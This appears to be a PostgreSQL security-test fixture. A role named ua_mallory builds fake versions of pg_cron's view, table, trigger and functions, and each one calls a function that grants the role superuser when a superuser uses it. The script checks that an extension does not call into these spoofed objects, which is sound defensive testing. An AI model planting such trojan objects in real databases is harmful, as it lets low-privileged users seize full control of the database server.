-- cron-lookalike.sql: role ua_mallory, with CREATE on the database, makes
-- look-alikes of pg_cron's objects (schema cron: the view job, the table
-- job_run_details with a delete trigger, the functions schedule and
-- unschedule) whose every use runs mallory.escalate(), which records the
-- call and makes ua_mallory a superuser when a superuser runs it.  Where
-- pg_cron is installed the schema cron is pg_cron's and the look-alikes
-- cannot be made.  Then counting-entry-points.sql calls everything that
-- reads pg_cron's objects.  Used by sql/security_cron.sql and by the scale
-- suite on a cluster without pg_cron.
SET client_min_messages = warning;
SET ROLE ua_mallory;
CREATE SCHEMA mallory;
CREATE TABLE mallory.calls (called_as name, at text);
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
GRANT INSERT ON mallory.calls TO PUBLIC;
CREATE FUNCTION mallory.escalate(at text) RETURNS text
    LANGUAGE plpgsql VOLATILE AS $$
BEGIN
    INSERT INTO mallory.calls VALUES (current_user, at);
    BEGIN
        ALTER ROLE ua_mallory SUPERUSER;
    EXCEPTION WHEN insufficient_privilege THEN
        NULL;
    END;
    RETURN '*/5 * * * *';
END;
$$;
GRANT EXECUTE ON FUNCTION mallory.escalate(text) TO PUBLIC;
CREATE SCHEMA cron;
GRANT USAGE ON SCHEMA cron TO PUBLIC;
CREATE VIEW cron.job AS
SELECT 1::bigint AS jobid, 'user_activity_count'::text AS jobname, mallory.escalate('job') AS schedule,
       'CALL user_activity.run_counting()'::text AS command, true AS active,
       'postgres'::text AS username, current_database()::text AS database;
CREATE TABLE cron.job_run_details (jobid bigint, runid bigint, status text, return_message text,
                                   start_time timestamptz, end_time timestamptz);
INSERT INTO cron.job_run_details VALUES (1, 1, 'succeeded', 'CALL', '2000-01-01', '2000-01-01');
CREATE FUNCTION cron.on_delete() RETURNS trigger
    LANGUAGE plpgsql AS $$ BEGIN PERFORM mallory.escalate('job_run_details'); RETURN OLD; END $$;
CREATE TRIGGER on_delete BEFORE DELETE ON cron.job_run_details
    FOR EACH ROW EXECUTE FUNCTION cron.on_delete();
CREATE FUNCTION cron.schedule(text, text, text) RETURNS bigint
    LANGUAGE sql AS $$ SELECT length(mallory.escalate('schedule'))::bigint $$;
CREATE FUNCTION cron.unschedule(text) RETURNS boolean
    LANGUAGE sql AS $$ SELECT mallory.escalate('unschedule') IS NOT NULL $$;
GRANT SELECT, DELETE ON cron.job, cron.job_run_details TO PUBLIC;
RESET ROLE;
RESET client_min_messages;
